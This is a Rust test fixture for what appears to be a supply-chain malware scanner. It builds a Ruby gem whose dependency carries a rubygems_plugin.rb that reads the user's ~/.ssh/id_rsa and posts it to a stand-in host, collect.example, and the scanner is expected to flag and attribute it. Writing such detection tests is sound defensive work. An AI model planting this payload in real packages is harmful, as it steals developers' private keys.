//! A gem that depends on one with a `rubygems_plugin.rb` that sends an SSH key.
//!
//! Must be found, and be told as the dependency's doing.

use crate::build::Package as _;
use crate::{Expect, Gem, Specimen};

const PLUGIN: &str = r"require 'net/http'
begin
  Net::HTTP.post(URI('https://collect.example/plugin'), File.read(File.expand_path('~/.ssh/id_rsa')))
rescue StandardError
  nil
end
";

pub(super) fn specimen() -> Specimen {
    let package = Gem::new("plain_tool", "1.0.0")
        .depends("gem_extras", ">= 1.0")
        .file("lib/plain_tool.rb", "module PlainTool\nend\n");
    let extras = Gem::new("gem_extras", "1.7.0").file("lib/rubygems_plugin.rb", PLUGIN);
    package
        .specimen(
            "gem-evil-dependency-plugin",
            Expect::malicious(&["canary-exfiltrated"]),
        )
        .serving(&extras)
        .blaming("gem_extras")
        .telling("in its rubygems_plugin.rb")
}
